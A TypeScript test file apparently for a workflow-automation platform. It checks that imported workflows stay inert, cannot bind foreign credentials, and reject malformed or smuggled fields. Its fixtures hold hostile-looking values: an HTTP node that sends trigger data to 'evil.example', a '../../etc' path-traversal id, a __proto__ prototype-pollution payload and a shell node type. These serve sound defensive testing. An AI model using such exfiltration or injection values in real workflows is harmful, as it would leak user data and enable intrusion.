import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { WorkflowDocument } from "@/lib/workflow/document";
import { withoutCredentials } from "@/lib/workflow/without-credentials";
import { type Application, startApplication } from "~/tests/support/application";
import { http, manual, script, transform, workflow } from "~/tests/support/workflow-builder";
import { keyOf, rest, type User, webhook } from "./client";
import { bearer } from "./rest-cases";

let app: Application;
let ada: User;
let bob: User;
let key: string;

beforeAll(async () => {
  app = await startApplication();
  [ada, bob] = [await app.signUp("ada"), await app.signUp("bob")];
  key = await keyOf(ada);
});
afterAll(() => app?.stop());

/** A workflow that every kind of trigger would start, with nodes that act. */
const shared = (): WorkflowDocument =>
  workflow(
    {
      start: manual,
      hook: { type: "trigger.webhook", config: { auth: { type: "none" } } },
      clock: { type: "trigger.schedule", config: { cron: "* * * * *" } },
      heard: { type: "trigger.event", config: { event: "order.paid" } },
      failed: { type: "trigger.error", config: {} },
      call: http("POST", "https://evil.example/{{trigger.body}}"),
      run: script("return input", "{{trigger}}"),
      end: transform({ v: 1 }),
    },
    "start > call",
    "hook > call",
    "clock > call",
    "heard > call",
    "failed > call > run > end",
  );

describe("an imported workflow", () => {
  it("runs nothing, whatever starts it, until somebody deploys or tests it", async () => {
    const { status, body } = await rest<{ id: string }>("POST", "workflows", { key, body: shared() });
    expect(status).toBe(201);
    const { db } = await import("@/server/db");
    const { fireSchedules } = await import("@/features/execution/server/triggers/fire-schedules");
    const inAnHour = new Date(Date.now() + 3_600_000);
    await fireSchedules(inAnHour, new Date(0));
    expect((await webhook("POST", body.id)).status).toBe(404);
    expect((await webhook("POST", `${body.id}/hook`)).status).toBe(404);
    await rest("POST", "events", { key, body: { name: "order.paid" } });
    // Looking at it in every way that there is.
    await rest("GET", `workflows/${body.id}`, { key });
    await rest("POST", "ai/explain/workflow", { key, body: { workflowId: body.id } });
    await rest("POST", "ai/explain/workflow", { key, body: { document: shared() } });
    for (const { type, data } of shared().nodes) {
      await rest("POST", "nodes/preview", { key, body: { type, config: data.config, context: {} } });
    }
    expect(await db().execution.count({ where: { workflowId: body.id } })).toBe(0);
    expect(await db().schedule.count({ where: { workflowId: body.id } })).toBe(0);
    expect(await db().subscription.count({ where: { workflowId: body.id } })).toBe(0);
    expect((await ada.workflows.get({ id: body.id })).activeVersion).toBeNull();
  });

  it("may bind no credential of another workspace, by whatever way it comes in", async () => {
    const { id: foreign } = await bob.credentials.create({ ...bearer, type: "BEARER_TOKEN" });
    const bound = shared();
    const call = bound.nodes.find(({ id }) => id === "call");
    if (call) call.data.credentialId = foreign;
    const own = await ada.workflows.create({ document: shared() });
    const answers = await Promise.all([
      rest("POST", "workflows", { key, body: bound }),
      rest("PUT", `workflows/${own.id}`, { key, body: { revision: 1, document: bound } }),
      rest("POST", `workflows/${own.id}/run`, { key, body: { document: bound } }),
    ]);
    for (const { status, text } of answers) {
      expect(status).toBe(422);
      expect(text).toContain("UNKNOWN_CREDENTIAL");
    }
  });

  it("names none of its new owner's either when it comes from a file", async () => {
    const { id } = await ada.credentials.create({ ...bearer, type: "BEARER_TOKEN" });
    const bound = shared();
    for (const node of bound.nodes) node.data.credentialId = id;
    const { document, labels } = withoutCredentials(bound);
    expect(JSON.stringify(document)).not.toContain(id);
    expect(labels).toHaveLength(bound.nodes.length);
    const made = await ada.workflows.create({ document });
    expect(JSON.stringify(await ada.workflows.get({ id: made.id }))).not.toContain(id);
  });

  it.each<[string, unknown]>([
    ["no document", { workflow: shared() }],
    ["a later format", { ...shared(), schemaVersion: 2 }],
    ["ids that are none", { ...shared(), nodes: [{ ...shared().nodes[0], id: "../../etc" }] }],
    ["edges to nowhere that are none", { ...shared(), edges: [{ id: "e", source: 5, target: {} }] }],
    [
      "a config that is none",
      { ...shared(), nodes: [{ ...shared().nodes[0], data: { label: "a", config: "x" } }] },
    ],
    ["a name that cannot be kept", { ...shared(), name: "a\u0000b" }],
  ])("is checked like any document: %s is refused", async (_, body) => {
    expect((await rest("POST", "workflows", { key, body })).status).toBe(400);
  });

  it("keeps nothing that is no part of a document, and is not deployed with unknown parts", async () => {
    const document = {
      ...shared(),
      owner: "eve",
      __proto__: { active: true },
      activeVersion: 7,
      deployed: true,
    };
    const made = await rest<{ id: string }>("POST", "workflows", { key, body: document });
    expect(made.status).toBe(201);
    const read = await ada.workflows.get({ id: made.body.id });
    expect(Object.keys(read.document).sort()).toEqual(Object.keys(shared()).sort());
    const odd = shared();
    odd.nodes.push({
      id: "odd",
      type: "action.shell",
      position: { x: 0, y: 0 },
      data: { label: "o", config: {} },
    });
    const unknown = await ada.workflows.create({ document: odd });
    expect((await rest("POST", `workflows/${unknown.id}/deploy`, { key, body: {} })).status).toBe(422);
    expect((await rest("POST", `workflows/${unknown.id}/run`, { key, body: {} })).status).toBe(422);
  });
});
